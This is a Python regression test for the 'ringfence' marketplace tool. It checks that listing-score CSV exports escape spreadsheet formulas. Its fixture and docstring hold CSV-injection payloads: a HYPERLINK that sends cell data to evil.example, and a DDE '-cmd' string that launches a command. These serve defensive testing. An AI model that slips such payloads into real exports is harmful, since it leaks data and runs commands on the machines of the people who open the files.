"""Red team, marketplace protection (issue 11): ``ringfence listings score --out FILE.csv``.

M3: listing ids and reasons are the marketplace's text (its listings feed), and the CSV was
written raw (``pyarrow.csv``), so a listing id ``=HYPERLINK("https://evil.example/?"&A1,"x")``
became a live formula in the analyst's spreadsheet. ``ringfence sellers score --out`` already
neutralised its cells (``service.exports``); the listings export now goes through the same
writer.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow as pa
import pytest
from typer.testing import CliRunner

from ringfence.cli.main import app
from ringfence.listings import service

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"open")'


def test_listing_scores_csv_has_no_formulas(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    table = pa.table({"listing": [EVIL, "L-2"], "score": [0.9, 0.1],
                      "reasons": ["@SUM(1+1)", "-cmd|' /C calc'!A0"]})  # fmt: skip
    monkeypatch.setattr(service, "score_listings", lambda settings: table)
    monkeypatch.setenv("RINGFENCE_DATA_DIR", str(tmp_path / "data"))
    out = tmp_path / "scores.csv"
    got = CliRunner().invoke(app, ["listings", "score", "--out", str(out)])
    assert got.exit_code == 0, got.output
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [r["listing"] for r in rows] == ["'" + EVIL, "L-2"]
    assert [r["reasons"] for r in rows] == ["'@SUM(1+1)", "'-cmd|' /C calc'!A0"]
    assert [float(r["score"]) for r in rows] == [0.9, 0.1]
